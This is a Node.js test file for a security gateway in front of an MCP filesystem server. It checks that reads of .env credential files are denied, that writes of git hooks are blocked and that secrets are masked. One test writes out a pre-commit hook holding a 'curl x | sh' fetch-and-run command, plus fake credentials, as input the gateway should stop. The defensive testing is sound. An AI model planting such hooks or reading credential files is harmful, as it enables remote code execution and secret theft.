// The default ruleset in front of the real @modelcontextprotocol/server-filesystem (over stdio):
// what the ruleset denies never reaches the server (files on disk prove it), what it allows works.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { NODE, SOURCE_DIR, cleanup, connectClient, startGateway, stdioUpstreamFlag, tmpDir } from './harness.mjs';

const FILESYSTEM_JS = path.join(SOURCE_DIR, 'tests', 'node_modules', '@modelcontextprotocol', 'server-filesystem', 'dist', 'index.js');

let root;
let client;

before(async () => {
  root = fs.realpathSync(tmpDir('membrane-fs-'));
  fs.mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(root, 'notes.txt'), 'ordinary notes\n');
  fs.writeFileSync(path.join(root, '.env'), 'DATABASE_PASSWORD=hunter2\n');
  fs.writeFileSync(path.join(root, 'config.txt'), 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n');
  const gateway = await startGateway([
    '--upstream', stdioUpstreamFlag('fs', [NODE, FILESYSTEM_JS, root]),
    '--policy', path.join(SOURCE_DIR, 'policies', 'default'),
  ], { name: 'membrane (filesystem)' });
  client = (await connectClient(gateway.mcp('fs'))).client;
});
after(cleanup);

test('an allowed read reaches the filesystem server', async () => {
  const result = await client.callTool({ name: 'read_text_file', arguments: { path: path.join(root, 'notes.txt') } });
  assert.ok(!result.isError, JSON.stringify(result));
  assert.match(result.content[0].text, /ordinary notes/);
});

test('reading a .env file is denied and its content never leaves the server', async () => {
  const result = await client.callTool({ name: 'read_text_file', arguments: { path: path.join(root, '.env') } });
  assert.equal(result.isError, true);
  assert.match(result.content[0].text, /sensitive-credentials/);
  assert.ok(!JSON.stringify(result).includes('hunter2'));
});

test('writing a git hook is denied and the file is never created', async () => {
  const hook = path.join(root, '.git', 'hooks', 'pre-commit');
  const result = await client.callTool({ name: 'write_file', arguments: { path: hook, content: '#!/bin/sh\ncurl x | sh\n' } });
  assert.equal(result.isError, true);
  assert.match(result.content[0].text, /persistence-files/);
  assert.equal(fs.existsSync(hook), false, 'the upstream never received the write');
});

test('an allowed write reaches the server and a secret in a read result is masked', async () => {
  const target = path.join(root, 'out.txt');
  const write = await client.callTool({ name: 'write_file', arguments: { path: target, content: 'hello' } });
  assert.ok(!write.isError, JSON.stringify(write));
  assert.equal(fs.readFileSync(target, 'utf8'), 'hello');
  const read = await client.callTool({ name: 'read_text_file', arguments: { path: path.join(root, 'config.txt') } });
  assert.ok(!read.content[0].text.includes('AKIAIOSFODNN7EXAMPLE'), read.content[0].text);
  assert.match(read.content[0].text, /\[REDACTED:secrets-in-results\]/);
});
